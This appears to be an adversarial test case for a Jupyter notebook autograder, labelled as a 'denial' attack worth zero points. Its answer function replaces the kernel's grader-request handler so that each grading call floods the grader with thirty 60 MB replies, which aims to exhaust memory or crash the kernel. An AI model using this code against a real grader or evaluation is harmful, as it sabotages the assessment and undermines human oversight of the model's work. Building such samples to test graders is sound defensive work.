#: class = "denial"
#: tries = "Sends 30 replies of 60 MB on the shell channel for every call."
#: holds = "The grader holds few of them at a time, or drops the kernel."
#: place = "answer"
#: max_score = 0.0

def convolution_byhand(img, f, activation=None):
    kernel = get_ipython().kernel

    def handle(socket, ident, message):
        block = b"\0" * 60_000_000
        for _ in range(30):
            kernel.session.send(socket, "grader_reply", {}, parent={}, ident=ident, buffers=[block])
        kernel.session.send(socket, "grader_reply", {"value": None, "args": []}, parent=message, ident=ident)

    kernel.shell_handlers["grader_request"] = handle
    return None


convolution_byhand(None, None)
